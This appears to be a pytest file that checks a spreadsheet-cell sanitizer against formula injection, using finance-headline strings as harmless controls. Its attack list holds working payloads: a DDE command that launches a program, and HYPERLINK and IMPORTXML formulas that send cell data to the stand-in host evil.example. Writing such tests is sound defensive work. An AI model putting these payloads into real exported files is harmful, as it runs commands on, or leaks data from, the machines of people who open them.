"""No attack starts a formula, and no harmless text is touched."""

from __future__ import annotations

import pytest

from sentinel.report.cells import text_cell

BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("https://evil.example?x="&A1,"open")',
    'IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
    "2+3",
    "A1",
)
LEADS = ("", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u00a0", "\ufeff", "\u200b", "\u3000", " \t \x01")
ATTACKS = (
    *(f"{sign}{body}" for sign in "=+@" for body in BODIES),
    *(f"-{body}" for body in BODIES if body != "1+1"),
    *(f"{lead}=1+1" for lead in LEADS[1:]),
    *(f"{lead}-2+3" for lead in LEADS),
    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u207b"),
    "-1+cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\u22122+3",
    "-5% (HYPERLINK)",
    "-5% fall=HYPERLINK(1)",
    "-5% fall +cmd|x",
    "-5%+A1",
    "-5%*2",
    "-1 -2",
    "-1 a!A1",
    "-1;=1+1",
    "-A1",
    "-Fed holds",
    "- Fed holds",
    "+Fed",
    "@fed",
    "= 5",
    "=",
    "-1^2",
    "-1&A1",
    "-1/2",
    "-2<3",
    "+1-555-0100",
    "-{1}",
    "-'sheet'!A1",
    '-"a"',
)
HARMLESS = (
    "",
    " ",
    "-",
    "--",
    "-0.75",
    "+0.75",
    "-5",
    "+3.2%",
    "-1,234.56",
    "-0,75",
    "-1.5e-3",
    "- 5",
    "-$5",
    "+\u20ac3bn",
    "-20bps",
    "+49 30 123456",
    "\u22125%",
    "-5% fall in copper",
    "-5% fall in copper, traders say",
    "-5% fall in copper; gold steady",
    "+0.3% q/q growth beats forecasts",
    "-0.4% year-to-date for the S&P 500",
    "+100k jobs in May: what next?",
    "-5m loss at Smith's bank",
    "-3.5%: worst day since 2020",
    "\u22120.2% month on month",
    "5% - a rise = good",
    "1+1",
    "a=b",
    "mail@example.com",
    "Profit +5% @ bank",
    "(=1+1)",
    "'=1+1'",
    "\u2013 Fed holds rates",
    "\u2014 live updates",
    "# of jobs up",
    "$5bn deal; terms open",
    "Copper: -5%",
    "O\u2019Neil \u2018quits\u2019",
    "Umsatz \u00fcber 5 Mrd. \u20ac",
    "\u80a1\u4ef7 -5%",
    "\U0001f680 to the moon",
)


def test_lists_are_long_enough_to_mean_something() -> None:
    assert len(set(ATTACKS)) >= 65
    assert len(set(HARMLESS)) >= 36


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_cell_makes_an_attack_text(attack: str) -> None:
    assert text_cell(attack).startswith("'")


@pytest.mark.parametrize("harmless", HARMLESS)
def test_text_cell_leaves_harmless_text_intact(harmless: str) -> None:
    assert text_cell(harmless) == harmless


@pytest.mark.parametrize("lead", LEADS)
def test_text_cell_keeps_what_an_attack_says(lead: str) -> None:
    assert text_cell(f"{lead}=1+1").lstrip("' \u00a0\ufeff\u200b\u3000") == "=1+1"


def test_text_cell_guards_what_follows_a_semicolon() -> None:
    assert text_cell('Copper;=cmd|x;"=1+1";-5% fall') == "Copper;'=cmd|x;'\"=1+1\";-5% fall"


def test_text_cell_flattens_line_breaks_and_drops_what_cannot_be_written() -> None:
    assert text_cell("one\r\ntwo\tthree\u2028four\x00\ud800") == "one two three four"


def test_text_cell_is_quick_on_long_text() -> None:
    assert text_cell("-5% " + "a-" * 50_000 + "(").startswith("'")
    assert text_cell("=" + ";" * 100_000).startswith("'")
